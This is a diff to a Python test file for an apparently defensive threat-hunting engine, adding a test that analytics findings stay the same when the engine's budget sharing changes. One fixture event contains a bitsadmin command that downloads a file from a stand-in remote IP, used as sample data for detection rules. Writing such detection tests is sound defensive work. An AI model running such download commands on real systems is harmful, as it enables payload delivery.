@@ -25,7 +25,8 @@ def _ev(rid: int, eid: int, data: dict) -> bytes:
         "EventData": data}}) + b"\n"
 
 
-def _hunt(tmp_path, name: str, monkeypatch, overlap_hits: int) -> tuple[bytes, list]:
+def _hunt(tmp_path, name: str, monkeypatch, overlap_hits: int,
+          half_share_hits: int = 0) -> tuple[bytes, list]:
     ev = tmp_path / "ev"
     if not ev.exists():
         ev.mkdir()
@@ -38,6 +39,7 @@ def _hunt(tmp_path, name: str, monkeypatch, overlap_hits: int) -> tuple[bytes, l
                        "CommandLine": "bitsadmin /transfer j http://198.51.100.7/b c:\\b"}),
         ]))
     monkeypatch.setattr(engine, "OVERLAP_HITS", overlap_hits)
+    monkeypatch.setattr(engine, "HALF_SHARE_HITS", half_share_hits)
     threads: list[str] = []
     budgets: list[float] = []
     real = AnalyticsDetector.run
@@ -59,6 +61,11 @@ def test_overlapped_analytics_give_the_same_findings(tmp_path, monkeypatch):
     beside, how = _hunt(tmp_path, "overlap", monkeypatch, overlap_hits=0)
     assert how[0].startswith("analytics") and how[1] == 0.5  # beside them: half of it
     assert beside == one_by_one
+    # beside findings too few to weigh in the budget: DuckDB keeps its whole share
+    few, how = _hunt(tmp_path, "overlap-few", monkeypatch, overlap_hits=0,
+                     half_share_hits=10**9)
+    assert how[0].startswith("analytics") and how[1] == 1.0
+    assert few == one_by_one
     rules = {orjson.loads(x)["rule_id"] for x in beside.splitlines()}
     assert "th-analytic-0034" in rules and len(rules) >= 2  # an analytic and Sigma rules
 
